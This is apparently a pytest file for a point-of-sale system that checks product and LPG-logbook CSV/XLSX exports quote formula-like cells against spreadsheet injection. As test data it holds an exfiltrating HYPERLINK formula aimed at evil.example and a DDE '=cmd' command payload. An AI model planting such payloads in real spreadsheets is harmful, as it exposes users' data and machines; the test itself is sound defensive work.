"""Exports are safe to open: a product name or a receipt text that looks like a formula is written as
text (a leading quote), read back with the csv module and openpyxl; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from kkmp_pos.core.cart import Cart
from kkmp_pos.db.models import ProductModel
from kkmp_pos.services.stock.module import stock_module
from tests.services.test_sales import barcode_of, cash

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
NIK = "6471015708900002"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_product_export_quotes_formula_cells_and_imports_back_unchanged(till, manager, tmp_path, fmt):
    ProductModel.update(name=EVIL).where(ProductModel.code == "LPG3").execute()
    ProductModel.update(name="@SUM(A1:A9)", supplier=None).where(ProductModel.code == "SPHP5").execute()
    sm = stock_module(till)
    path = tmp_path / f"produk.{fmt}"
    sm.importer.export(path)
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.DictReader(fh))
        by_code = {r["code"]: r for r in rows}
        assert by_code["LPG3"]["name"] == "'" + EVIL
        assert by_code["SPHP5"]["name"] == "'@SUM(A1:A9)"
        assert by_code["LPG3"]["regular_price_rp"].isdigit()  # unquoted number
    else:
        from openpyxl import load_workbook

        book = load_workbook(path)
        sheet = book.worksheets[0]
        header = [c.value for c in sheet[1]]
        cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
        name = cells["LPG3"][header.index("name")]
        assert name.data_type == "s" and name.value == "'" + EVIL  # text, not a formula
        price = cells["LPG3"][header.index("regular_price_rp")]
        assert price.data_type == "n" and isinstance(price.value, int)  # a number cell
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    preview = sm.importer.preview(path)
    assert preview.ok, [(p.row, p.column, p.message()) for p in preview.problems[:5]]
    names = {row.spec.code: row.spec.name for row in preview.rows}
    assert names["LPG3"] == EVIL and names["SPHP5"] == "@SUM(A1:A9)"  # the quote is taken off again


def test_lpg_logbook_csv_quotes_formula_cells_and_keeps_numbers(till, cashier, manager):
    ProductModel.update(name="=cmd|' /C calc'!A0").where(ProductModel.code == "LPG3").execute()
    cart = Cart()
    cart.add(till.catalog.lookup_barcode(barcode_of("LPG3")), 1000)
    till.sales.checkout(cart, cash(100_000), cashier, buyer_nik=NIK)
    today = till.ctx.business_date()
    book = till.lpg_logbook.logbook(manager, today, today)
    rows = list(csv.DictReader(io.StringIO(book.csv_text())))
    sold = [r for r in rows if r["no_struk"] and not r["no_struk"].startswith("TOTAL")]
    assert sold and all(r["barang"] == "'=cmd|' /C calc'!A0" for r in sold)
    assert all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values())
    assert sold[0]["total_rp"].isdigit() and int(sold[0]["total_rp"]) > 0  # a number, unquoted


def test_every_spreadsheet_the_package_writes_goes_through_the_safe_cell_helper():
    """A new CSV or XLSX export must quote formula cells too: any module that makes a csv writer or
    an openpyxl workbook uses core.spreadsheet."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "kkmp_pos"
    writers = [
        path
        for path in root.rglob("*.py")
        if any(w in path.read_text(encoding="utf-8") for w in ("csv.writer(", "csv.DictWriter(", "Workbook("))
    ]
    assert writers  # the product export and the LPG logbook at least
    unsafe = [str(p.relative_to(root)) for p in writers if "safe_row" not in p.read_text(encoding="utf-8")]
    assert not unsafe, unsafe
